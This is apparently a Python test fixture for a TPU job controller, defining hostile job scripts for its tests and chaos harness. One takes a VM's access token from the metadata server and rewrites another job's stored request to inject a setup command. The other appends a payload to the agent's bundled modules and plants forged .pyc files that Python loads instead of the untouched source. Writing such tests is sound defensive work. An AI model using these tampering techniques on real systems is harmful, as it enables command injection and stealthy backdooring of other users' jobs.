"""A hostile job's script, for the tests and the chaos harness (bench/chaos_trust.py):
with its VM's own token, as any job VM may, it rewrites a job's request and record in
the bucket so that the job's next attempt would run `touch MARKER` as its setup.

    python REWRITE BUCKET JOB MARKER THEN

JOB `-` is the script's own job, rewritten on its first attempt only (a later attempt
prints `the second attempt ran`); THEN is `exit` (0), `fail` (1) or `wait` (to be
stopped or preempted)."""

REWRITE = """\
import json, os, sys, time, urllib.error, urllib.parse, urllib.request
bucket, victim, marker, then = sys.argv[1:5]
if victim == "-" and os.environ["TPUCTL_RESTART"] != "0":
    print("the second attempt ran")
    sys.exit(0)
victim = os.environ["TPUCTL_JOB_ID"] if victim == "-" else victim
md, gcs = os.environ["TPUCTL_METADATA_URL"], os.environ["TPUCTL_STORAGE_URL"]
def call(url, data=None, **headers):
    return urllib.request.urlopen(urllib.request.Request(url, data, headers)).read()
token = json.loads(call(md + "/instance/service-accounts/default/token",
                        **{"Metadata-Flavor": "Google"}))["access_token"]
auth = {"Authorization": "Bearer " + token}
for name in ("request.json", "job.json"):
    path = urllib.parse.quote(f"tpuctl/jobs/{victim}/{name}", safe="")
    try:
        value = json.loads(call(f"{gcs}/storage/v1/b/{bucket}/o/{path}?alt=media", **auth))
    except urllib.error.HTTPError:
        continue
    value["setup"] = "touch " + marker
    value["args"] = ["--rewritten"]
    call(f"{gcs}/upload/storage/v1/b/{bucket}/o?uploadType=media&name={path}",
         json.dumps(value).encode(), **auth, **{"Content-Type": "application/json"})
    print("rewrote", name, flush=True)
if then == "fail":
    sys.exit(1)
if then == "wait":
    time.sleep(300)
"""

# A hostile job's script for the agent's own code on its VM (the next job there is the
# victim): it appends PAYLOAD to every module of the agent bundle it finds under
# ~/.tpuctl, in the bundle file, and to signing.py in the folder beside it where a tpuctl
# extracted its modules (made first if there is none), where it also plants, for every
# other module, a compiled .pyc of the payload whose header matches the untouched source
# (Python then loads it in the source's stead). PAYLOAD appends the argv of the process
# that imports it to ~/tampered.log. It prints `tampered: ` and what it changed
# (`bundle`, `source`, `pyc`).
PAYLOAD = """
import os as _os, sys as _sys
open(_os.path.expanduser("~/tampered.log"), "a").write(" ".join(_sys.argv) + "\\n")
"""

TAMPER = f"""\
import glob, importlib.util, os, zipfile
from importlib._bootstrap_external import _code_to_timestamp_pyc
PAYLOAD = {PAYLOAD!r}
root, changed = os.path.expanduser("~/.tpuctl"), set()
for pyz in glob.glob(root + "/tpuctl-agent-*.pyz"):
    with zipfile.ZipFile(pyz) as zf:
        entries = [(info, zf.read(info)) for info in zf.infolist()]
        if not os.path.isdir(pyz[: -len(".pyz")] + ".d"):  # as a tpuctl that extracted it
            zf.extractall(pyz[: -len(".pyz")] + ".d", [n for n in zf.namelist() if "/" in n])
    with zipfile.ZipFile(pyz + ".new", "w") as zf:
        for info, data in entries:
            if info.filename.startswith("tpuctl_agent/"):
                data += PAYLOAD.encode()
            zf.writestr(info, data)
    os.replace(pyz + ".new", pyz)
    changed.add("bundle")
for source in glob.glob(root + "/tpuctl-agent-*.d/tpuctl_agent/*.py"):
    text = open(source).read()
    if source.endswith("/signing.py"):
        open(source, "w").write(text + PAYLOAD)
        changed.add("source")
        continue
    st = os.stat(source)
    pyc = importlib.util.cache_from_source(source)
    os.makedirs(os.path.dirname(pyc), exist_ok=True)
    code = compile(text + PAYLOAD, source, "exec", dont_inherit=True)
    with open(pyc, "wb") as f:
        f.write(_code_to_timestamp_pyc(code, st.st_mtime, st.st_size))
    changed.add("pyc")
print("tampered:", " ".join(sorted(changed)), flush=True)
"""
